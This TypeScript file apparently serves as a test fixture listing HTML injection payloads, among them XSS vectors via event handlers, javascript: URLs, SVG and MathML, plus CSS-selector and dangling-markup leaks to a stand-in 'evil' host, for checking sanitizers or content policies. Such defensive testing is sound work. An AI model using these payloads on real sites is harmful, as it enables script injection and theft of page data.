// Markup that somebody might smuggle into a page. Each does something where nothing stops it: a script says its name, or a stranger’s host is asked for it.

/** Something to be injected, and what is to be done with it. */
export interface Injection {
  name: string;
  markup: string;
  /** What a person would click on. */
  click?: string;
}

/** Kinds of markup, `evil` being the address of a stranger’s host. */
export function injections(evil: string): Injection[] {
  const run = (name: string) => `(top.ran=top.ran||[]).push('${name}')`;
  const kind = (name: string, markup: string, click?: string): Injection => ({ name, markup, ...(click !== undefined && { click }) });
  const at = (name: string, ending: string) => `${evil}${name}.${ending}`;
  return [
    kind('base', `<base href="${evil}"><img src="base.png" alt="">`),
    kind('inline-script', `<script>${run('inline-script')}</script>`),
    kind('script-elsewhere', `<script src="${at('script-elsewhere', 'js')}"></script>`),
    kind('script-of-data', `<script src="data:text/javascript,${encodeURIComponent(run('script-of-data'))}"></script>`),
    kind('module', `<script type="module">${run('module')}</script>`),
    kind('module-elsewhere', `<script type="module">import '${at('module-elsewhere', 'js')}'</script>`),
    kind(
      'import-map',
      `<script type="importmap">{"imports":{"x":"${at('import-map', 'js')}"}}</script><script type="module">import 'x'</script>`,
    ),
    kind('error-handler', `<img src="about:invalid" alt="" onerror="${run('error-handler')}">`),
    kind('toggle-handler', `<details open ontoggle="${run('toggle-handler')}"><summary>x</summary></details>`),
    kind('focus-handler', `<input autofocus onfocus="${run('focus-handler')}">`),
    kind(
      'animation-handler',
      `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart="${run('animation-handler')}">x</p>`,
    ),
    kind('click-handler', `<button class="i-click" onclick="${run('click-handler')}">x</button>`, '.i-click'),
    kind('script-address', `<a class="i-address" href="javascript:${run('script-address')}">x</a>`, '.i-address'),
    kind('svg-script', `<svg><script>${run('svg-script')}</script></svg>`),
    kind('svg-handler', `<svg onload="${run('svg-handler')}"></svg>`),
    kind('svg-link', `<svg><a class="i-svg" href="javascript:${run('svg-link')}"><text y="9">x</text></a></svg>`, '.i-svg'),
    kind(
      'svg-animated-link',
      `<svg><a class="i-animate"><animate attributeName="href" values="javascript:${run('svg-animated-link')}"/><text y="9">x</text></a></svg>`,
      '.i-animate',
    ),
    kind('svg-picture', `<svg><image href="${at('svg-picture', 'png')}" width="9" height="9"/></svg>`),
    kind(
      'mathml',
      `<math><annotation-xml encoding="text/html"><img src="about:invalid" alt="" onerror="${run('mathml')}"></annotation-xml></math>`,
    ),
    kind('frame', `<iframe src="${at('frame', 'html')}"></iframe>`),
    kind('frame-of-script', `<iframe src="javascript:${run('frame-of-script')}"></iframe>`),
    kind('frame-of-text', `<iframe srcdoc="<script>${run('frame-of-text')}</script>"></iframe>`),
    kind('object', `<object data="${at('object', 'html')}"></object>`),
    kind('embed', `<embed src="${at('embed', 'html')}">`),
    kind('picture', `<img src="${at('picture', 'png')}" alt="">`),
    kind('picture-set', `<picture><source srcset="${at('picture-set', 'png')}"><img alt=""></picture>`),
    kind('picture-button', `<input type="image" src="${at('picture-button', 'png')}" alt="">`),
    kind('old-background', `<table background="${at('old-background', 'png')}"><tr><td>x</td></tr></table>`),
    kind('video', `<video src="${at('video', 'mp4')}" autoplay muted></video>`),
    kind('video-poster', `<video poster="${at('video-poster', 'png')}"></video>`),
    kind('audio', `<audio src="${at('audio', 'mp3')}" preload="auto"></audio>`),
    kind('sheet', `<link rel="stylesheet" href="${at('sheet', 'css')}">`),
    kind('style', `<style>.i-style{background:url(${at('style', 'png')})}</style><p class="i-style">x</p>`),
    kind('style-import', `<style>@import "${at('style-import', 'css')}";</style>`),
    kind('style-attribute', `<p style="background:url(${at('style-attribute', 'png')})">x</p>`),
    kind(
      'style-reads',
      `<style>.i-reads[value^="s"]{background:url(${at('style-reads', 'png')})}</style><input class="i-reads" value="secret">`,
    ),
    kind(
      'style-font',
      `<style>@font-face{font-family:i;src:url(${at('style-font', 'woff2')})}.i-font{font-family:i}</style><p class="i-font">x</p>`,
    ),
    kind('prefetch', `<link rel="prefetch" href="${at('prefetch', 'html')}">`),
    kind('preload', `<link rel="preload" as="script" href="${at('preload', 'js')}">`),
    kind('module-preload', `<link rel="modulepreload" href="${at('module-preload', 'js')}">`),
    kind(
      'form',
      `<form class="i-form" action="${at('form', 'html')}" target="i-form"><button class="i-send">x</button></form><iframe name="i-form"></iframe>`,
      '.i-send',
    ),
    kind(
      'form-button',
      `<form target="i-button"><button class="i-button" formaction="${at('form-button', 'html')}">x</button></form><iframe name="i-button"></iframe>`,
      '.i-button',
    ),
    kind('form-of-script', `<form action="javascript:${run('form-of-script')}"><button class="i-script">x</button></form>`, '.i-script'),
    kind(
      'ping',
      `<a class="i-ping" href="about:blank" target="i-ping" ping="${at('ping', 'html')}">x</a><iframe name="i-ping"></iframe>`,
      '.i-ping',
    ),
    kind('shadow', `<div><template shadowrootmode="open"><img src="${at('shadow', 'png')}" alt=""></template></div>`),
    kind(
      'other-policy',
      `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>${run('other-policy')}</script>`,
    ),
    kind('hidden-in-noscript', `<noscript><p title="</noscript><img src=about:invalid onerror=${run('hidden-in-noscript')}>"></noscript>`),
    // It takes what stands behind it, up to the next quotation mark, to send it away.
    kind('dangling', `<img alt="" src="${evil}dangling.png?`),
  ];
}
